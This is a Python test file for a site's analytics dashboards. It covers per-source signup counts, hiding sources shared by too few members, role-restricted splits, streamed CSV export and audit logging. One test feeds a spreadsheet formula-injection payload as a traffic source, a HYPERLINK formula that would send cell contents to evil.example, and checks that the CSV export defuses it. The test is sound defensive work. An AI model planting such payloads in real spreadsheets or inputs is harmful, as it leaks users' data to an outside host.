"""The numbers of the dashboards for each site and source, and as a file."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, time, timedelta
from typing import Any
from uuid import uuid4

import pytest
import time_machine
from sqlalchemy import text

from app.console.values import MASK
from app.kernel import clock, figures
from app.kernel.db.session import transaction
from modules.accounts import api as accounts_api
from modules.accounts.contracts import TrafficSource
from modules.accounts.identity.queries.statistics import SHARED_BY
from modules.moderation.contracts.staff import Role
from modules.sites.contracts import Site
from tests.factories import accounts
from tests.factories.billing import buy_credits
from tests.factories.sites import make_site
from tests.fixture_types import LogIn, MakeColleague, MakeMember
from tests.moderation.test_figures import Browser, numbers, path


def make_known(*networks: str) -> None:
    """Let so many come from these sources to another site that figures name them."""
    with transaction() as session:
        other = make_site(session)
        for network in networks * SHARED_BY:
            accounts.make_member(session, site=other, traffic_source=TrafficSource(network=network))


def test_the_source_of_a_member_is_told_apart(site: Site, make_member: MakeMember) -> None:
    make_known("gazette")
    make_member(traffic_source=TrafficSource(network="gazette"))
    make_member()
    assert numbers(site, source="gazette")["accounts.signups"] == 1
    assert numbers(site, source="")["accounts.signups"] == 1
    assert numbers(site)["accounts.signups"] == 2


@pytest.mark.spec("4.2")
def test_a_source_that_few_share_is_not_told(site: Site, make_member: MakeMember, login: LogIn) -> None:
    """Anybody can sign up with their name as the source, and what was counted outlives them."""
    come = {"traffic_source": TrafficSource(network=f"robin-{uuid4().hex}")}
    for _ in range(SHARED_BY - 1):
        login(make_member(**come))
    few = {name: numbers(site, source=figures.OTHER)[name] for name in ("accounts.signups", "accounts.active")}
    assert few == {"accounts.signups": SHARED_BY - 1, "accounts.active": SHARED_BY - 1}
    assert numbers(site, source=come["traffic_source"].network) == {}
    login(make_member(**come))
    named = numbers(site, source=come["traffic_source"].network)
    assert (named["accounts.signups"], named["accounts.active"]) == (SHARED_BY, SHARED_BY)
    assert numbers(site) == named, "nobody is counted under two sources, though who was here stays counted"


@pytest.mark.spec("4.2")
def test_an_address_is_no_source_however_many_share_it(site: Site) -> None:
    address = f"robin-{uuid4().hex}@example.org"
    with transaction() as session:
        for _ in range(SHARED_BY):
            accounts.make_member(session, site=site, traffic_source=TrafficSource(network=address))
    assert numbers(site, source=address) == {}
    assert numbers(site, source=figures.OTHER)["accounts.signups"] == SHARED_BY


@pytest.mark.spec("10.4")
def test_figures_are_split_by_site_and_by_source(
    site: Site, make_member: MakeMember, colleague: MakeColleague, staff_browser: Browser
) -> None:
    make_known("gazette", "radio")
    for network in ("gazette", "gazette", "radio", None):
        make_member(traffic_source=TrafficSource(network=network) if network else None)
    with transaction() as session:
        other = make_site(session)
        accounts.make_member(session, site=other)
    numbers(site)
    browser = staff_browser(colleague(Role.MODERATOR))

    def split(**asked: Any) -> dict[str, int]:
        parts = browser.get(path("figures/parts", days=1, **asked)).json["parts"]
        assert "billing.revenue" not in parts
        return {one["part"]: one["amount"] for one in parts["accounts.signups"]}

    assert split(by="source", site_id=site.id) == {"gazette": 2, "radio": 1, "": 1}
    assert {site.key: 4, other.key: 1}.items() <= split(by="site").items()
    assert browser.get(path("figures/parts", by="member")).status_code == 422


@pytest.mark.spec("7.1", "10.4")
def test_a_rate_is_split_over_the_days_on_which_it_is_known(
    site: Site, make_member: MakeMember, colleague: MakeColleague, staff_browser: Browser
) -> None:
    make_known("gazette", "radio")
    then = datetime.combine(clock.today() - timedelta(days=14), time.max, UTC)
    signed_up = [make_member(traffic_source=TrafficSource(network=one)) for one in ("gazette", "gazette", "radio")]
    make_member(traffic_source=TrafficSource(network="gazette"))
    with transaction() as session:
        moved = text("UPDATE accounts.member SET signup_at = :at WHERE id = ANY(:ids)")
        session.execute(moved, {"at": then, "ids": [one.id for one in signed_up]})
        buy_credits(session, member=signed_up[0])
    for day in (then.date(), clock.today()):
        with transaction() as session:
            accounts_api.count_figures(session, day=day)

    def split(role: Role, name: str) -> dict[str, tuple[int, int | None]]:
        asked = path("figures/parts", days=1, by="source", site_id=site.id)
        parts = staff_browser(colleague(role)).get(asked).json["parts"]
        return {one["part"]: (one["amount"], one["whole"]) for one in parts.get(name, [])}

    assert split(Role.ADMIN, "billing.converted") == {"gazette": (1, 2), "radio": (0, 1)}
    assert split(Role.ADMIN, "accounts.signups") == {"gazette": (1, None)}
    assert split(Role.MODERATOR, "billing.converted") == {}


@pytest.mark.spec("10.4")
def test_a_source_that_strangers_chose_is_no_formula_in_the_table(
    make_member: MakeMember, colleague: MakeColleague, staff_browser: Browser, site: Site
) -> None:
    chosen = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "x;=1+1")
    make_known(*chosen)
    for network in chosen:
        make_member(traffic_source=TrafficSource(network=network))
    numbers(site)
    table = staff_browser(colleague(Role.ADMIN)).get(path("figures.csv", site_id=site.id)).data.decode("utf-8-sig")
    for delimiter in ",;":
        cells = {cell for row in csv.reader(io.StringIO(table), delimiter=delimiter) for cell in row}
        assert [cell for cell in cells if cell.startswith("=")] == []
    assert {row["source"] for row in csv.DictReader(io.StringIO(table))} == {f"'{chosen[0]}", "x;'=1+1"}


def test_the_table_is_read_in_pieces(
    make_member: MakeMember,
    colleague: MakeColleague,
    staff_browser: Browser,
    site: Site,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """What is read whole has no cursor in the database, and takes as much memory as it is long."""
    cursors, list_sums = [], figures.list_sums

    def seen(session: Any, **asked: Any) -> Iterator[Any]:
        for one in list_sums(session, **asked):
            cursors.append(session.execute(text("SELECT count(*) FROM pg_cursors WHERE name <> ''")).scalar_one())
            yield one

    make_member()
    numbers(site)
    monkeypatch.setattr(figures, "list_sums", seen)
    assert staff_browser(colleague(Role.ADMIN)).get(path("figures.csv", site_id=site.id)).status_code == 200
    assert set(cursors) == {1}


@pytest.mark.spec("10.4")
def test_whoever_takes_the_figures_away_shows_who_they_are_and_is_written_down(
    colleague: MakeColleague, staff_browser: Browser
) -> None:
    admin = colleague(Role.ADMIN)
    browser = staff_browser(admin)
    assert browser.get(path("figures.csv", source="robin@example.org")).status_code == 200
    with transaction(read_only=True) as session:
        asked = "SELECT detail FROM moderation.audit_event WHERE staff_id = :id AND resource = 'platform.figures'"
        noted = session.execute(text(asked), {"id": admin.id}).scalar_one()
    assert noted["filters"]["source"] == MASK, "no source of members, so perhaps somebody's address"
    with time_machine.travel(clock.now() + timedelta(minutes=11), tick=False):
        answer = browser.get(path("figures.csv"))
    assert (answer.status_code, answer.json["code"]) == (403, "confirmation-required")
